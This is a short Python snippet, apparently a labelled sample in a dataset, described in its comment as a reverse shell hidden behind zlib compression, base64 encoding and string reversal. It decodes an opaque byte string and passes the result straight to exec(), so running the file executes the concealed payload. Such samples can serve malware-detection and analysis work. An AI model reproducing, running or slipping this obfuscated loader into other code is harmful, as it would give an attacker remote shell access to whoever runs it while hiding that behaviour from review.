# Golden example: reverse-shell.py behind zlib, base64 and a reversal.
_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))
exec((_)(b'=sCaaQxPJq0+SKMG5pGynYvja8NTKdbXzV31UTTqgMWwHbjSYXpxELBlptaDrkqp0qtmTPXVUKL7EgS6wq0rWzWfd/bZ+3v9p/sTNf7p7/g15m3L8jdXcDjQM/iuZmx3mningUWKYMcECSlhcFeDlxDZyAM6fG3cAnNkXqDwsEEQzzmhjsCqnbSmNsH0kO+EbAPkweEQIuN3PgFuQ9ocWEP6HTG8BcYejAcWHe+7baOXrvXsuZv+RbiQmxcXU3s0eZfwRFFVK6hCvs0ukCSS7Fmi59uhQEzAKFsjtpNe'))
